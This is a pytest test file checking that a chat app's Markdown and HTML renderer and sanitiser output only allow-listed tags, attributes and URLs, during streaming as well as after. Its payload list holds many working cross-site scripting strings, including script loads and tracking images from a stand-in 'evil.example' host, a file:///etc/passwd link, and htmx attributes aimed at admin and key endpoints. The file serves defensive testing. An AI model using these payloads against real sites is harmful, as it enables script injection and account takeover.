"""Hostile messages: whatever is written, only listed tags and attributes come out, from a real parser's view."""

import re
from html.parser import HTMLParser
from urllib.parse import unquote

import pytest

from conversations.rendering import BlockStream, render, sanitise

# Each line is one message. Most are known ways to smuggle script through a Markdown renderer or an HTML sanitiser.
PAYLOADS = r"""
<script>alert(1)</script>
<ScRiPt src=//evil.example/x.js></sCrIpT>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)" />
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<math href="javascript:alert(1)">x</math>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src="javascript:alert(1)">
<form action="/accounts/logout/" method="post"><button>x</button></form>
<button data-copy onclick=alert(1)>Copy</button>
<button type="button" data-copy>Copy</button>
<figcaption></figcaption>
<div hx-get="/admin/" hx-trigger="load">x</div>
<div data-hx-post="/api/v1/keys" data-hx-trigger="load">x</div>
<style>body{display:none}</style>
<link rel="stylesheet" href="//evil.example/x.css">
<meta http-equiv="refresh" content="0;url=//evil.example">
<base href="//evil.example/">
<body onload=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror="alert(1)"></video>
<input autofocus onfocus=alert(1)>
<marquee onstart=alert(1)>
<a href="javascript:alert(1)">x</a>
<p style="position:fixed;inset:0">x</p>
<p id="content" class="message">x</p>
<!--><img src=x onerror=alert(1)>-->
<!--[if IE]><script>alert(1)</script><![endif]-->
<![CDATA[<script>alert(1)</script>]]>
<?php echo 1 ?><script>alert(1)</script>
<x/onclick=alert(1)>y
</p><script>alert(1)</script>
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](java&#115;cript:alert(1))
[x](&#x6A;avascript:alert(1))
[x](javascript&colon;alert(1))
[x](<javascript:alert(1)>)
[x](\x01javascript:alert(1))
[x](%6Aavascript:alert(1))
[x](vbscript:msgbox(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](data:image/svg+xml,<svg/onload=alert(1)>)
[x](file:///etc/passwd)
[x](blob:https://a.example/1)
[x](//evil.example/a)
[x](/\evil.example/a)
[x](/&#9;/evil.example/a)
[x](https:/evil.example)
[x](https:evil.example)
[x](https:///evil.example)
[x](https://bank.example@evil.example)
[x](https://bank.example%40evil.example:x@evil.example)
[x](http://[::1)
[x](#content)
[x](../../admin/)
[x](https://a.example "onmouseover=alert(1)")
[x](https://a.example/" onmouseover="alert(1))
[x](https://a.example/'onmouseover='alert(1))
[x]: javascript:alert(1)
[<img src=x onerror=alert(1)>](https://a.example)
![x](javascript:alert(1))
![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
![x](//evil.example/track.png)
![x](https://evil.example/track.png)
![" onerror="alert(1)](https://evil.example/a.png)
![<script>alert(1)</script>](https://evil.example/a.png)
<javascript:alert(1)>
<https://a.example/"onmouseover="alert(1)>
https://a.example/"onmouseover="alert(1)
https://a.example/<script>alert(1)</script>
`<script>alert(1)</script>`
``` <script>alert(1)</script>
~~~ "><script>alert(1)</script>
```"onmouseover="alert(1)
$\text{<img src=x onerror=alert(1)>}$
$\text{&lt;img src=x onerror=alert(1)&gt;}$
$\text{&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;}$
$\unicode{x3c}script\unicode{x3e}$
$\href{javascript:alert(1)}{x}$
$\class{message}{x}$
$\style{position:fixed;inset:0}{x}$
$\color{red" onmouseover="alert(1)}{x}$
$\colorbox{"><script>alert(1)</script>}{x}$
$\begin{array}{c"><script>alert(1)</script>}x\end{array}$
$\operatorname{</math><script>alert(1)</script>}$
$\hspace{-100em}\text{Your session has ended}$
$\raise{-500em}{x}$
$\rule{9999em}{9999em}$
$"><script>alert(1)</script>$
$$</math><img src=x onerror=alert(1)>$$
\(<img src=x onerror=alert(1)>\)
\[</mtext><script>alert(1)</script>\]
$\frac{1}{<svg/onload=alert(1)>$
| <img src=x onerror=alert(1)> | b |\n|---|---|\n| [x](javascript:alert(1)) | <svg onload=alert(1)> |
- [x] <img src=x onerror=alert(1)>
> <script>alert(1)</script>
# <script>alert(1)</script>
a[^1]\n\n[^1]: <script>alert(1)</script>
a[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: x
    <script>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt;
""".strip("\n").split("\n")

URLS = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcset"}
OURS = {"data-copy", "data-wrap", "aria-pressed"}
SIZES = {"width", "height", "depth", "lspace", "voffset"}
VOID = {"br", "hr", "input"}


class Audit(HTMLParser):
    """Collects what must not be there. An own parser, so that it does not share the sanitiser's mistakes."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in VOID:
            self.open.append(tag)
        if tag not in sanitise.TAGS | {"button"}:
            self.faults.append(f"<{tag}>")
        if tag == "button" and attrs not in BUTTONS:
            self.faults.append(f"button {attrs}")
        for name, value in attrs:
            self._attribute(tag, name, value or "")

    def _attribute(self, tag: str, name: str, value: str) -> None:
        foreign = name.startswith(("on", "hx-")) or (name.startswith("data-") and name not in OURS)
        if foreign or name in {"style", "srcdoc", "background", "xmlns"}:
            self.faults.append(f"{tag} {name}={value}")
        if name == "id" and not value.startswith(("fn-m-", "fnref-m-")):
            self.faults.append(f"{tag} id={value}")
        if name in URLS and not is_harmless(unquote(value)):
            self.faults.append(f"{tag} {name}={value}")
        if name in SIZES and float(re.sub(r"[^\d.]", "", value) or 0) > 20:
            self.faults.append(f"{tag} {name}={value}")

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.faults.append(f"</{tag}> where it does not belong")

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(f"declaration {decl}")

    def unknown_decl(self, data: str) -> None:
        self.faults.append(f"declaration {data}")

    def handle_pi(self, data: str) -> None:
        self.faults.append(f"instruction {data}")


BUTTONS: list[list[tuple[str, str | None]]] = [
    [("type", "button"), ("data-wrap", None), ("aria-pressed", "false")],
    [("type", "button"), ("data-copy", None)],
]


def is_harmless(url: str) -> bool:
    if url.startswith(("#fn-m-", "#fnref-m-", "mailto:", "tel:")):
        return True
    if url.startswith("/"):
        return not url.startswith(("//", "/\\", "/\t"))
    return (
        url.startswith(("https://", "http://")) and "@" not in url.split("/")[2] and url.split("/")[2] != ""
    )


def audit(html: str) -> list[str]:
    parser = Audit()
    parser.feed(html)
    parser.close()
    return parser.faults + [f"<{tag}> is not closed" for tag in parser.open]


def unescaped(line: str) -> str:
    return line.replace("\\n", "\n").replace("\\x01", "\x01") if not line.startswith("$") else line


@pytest.mark.parametrize("payload", [unescaped(line) for line in PAYLOADS])
def test_a_hostile_message_is_harmless(payload: str) -> None:
    around = (
        payload,
        f"before {payload} after",
        f"- {payload}\n- b",
        f"| a |\n|--|\n| {payload} |",
        f"*{payload}*",
    )
    for text in around:
        assert audit(render(text, message_id="m")) == []


@pytest.mark.parametrize("payload", [unescaped(line) for line in PAYLOADS])
def test_a_hostile_message_is_harmless_at_every_step_of_a_stream(payload: str) -> None:
    for start in (
        "",
        "some words before it ",
        "- an item with ",
        "| a | b |\n|---|---|\n| c ",
        "```\ncode ",
        "$$\nx ",
    ):
        stream = BlockStream(message_id="m")
        shown: list[str] = []
        for character in start + payload + " and words behind it\n\nend":
            stream.feed(character)
            update = stream.update()
            shown += update.blocks
            assert audit(update.tail) == []
        last = stream.finish()
        assert audit("".join([*([] if last.reset else shown), *last.blocks])) == []


def test_the_audit_sees_what_it_looks_for() -> None:
    for html in (
        "<script>x</script>",
        '<p onclick="x">y</p>',
        '<p hx-get="/">y</p>',
        '<p style="x">y</p>',
        '<a href="javascript:x">y</a>',
        '<a href="//evil.example">y</a>',
        '<p id="x">y</p>',
        "<button data-copy>y</button>",
        "<!-- x -->",
        "<p>",
        '<mspace width="100em"></mspace>',
    ):
        assert audit(html), html


def test_the_text_of_a_formula_that_looks_like_markup_is_shown() -> None:
    assert "<mtext>&lt;b&gt;</mtext>" in render(r"$\text{<b>}$")
    assert "<mo>&lt;</mo>" in render("$a<b$")


def test_the_sanitiser_alone_takes_out_what_the_renderer_never_makes() -> None:
    assert (
        sanitise.clean('<p id="x" class="y" style="z" data-copy hx-get="/" onclick="a()">b</p>') == "<p>b</p>"
    )
    assert sanitise.clean('<a href="javascript:a()">b</a>') == '<a rel="noopener nofollow">b</a>'
    assert (
        sanitise.clean('<a href="//evil.example" target="_top">b</a>') == '<a rel="noopener nofollow">b</a>'
    )
    assert sanitise.clean('<li id="fn-x-1">a</li><li id="main">b</li>', footnotes=True) == (
        '<li id="fn-x-1">a</li><li>b</li>'
    )
    assert sanitise.clean('<img src="/x"><button data-copy>c</button>') == "c"
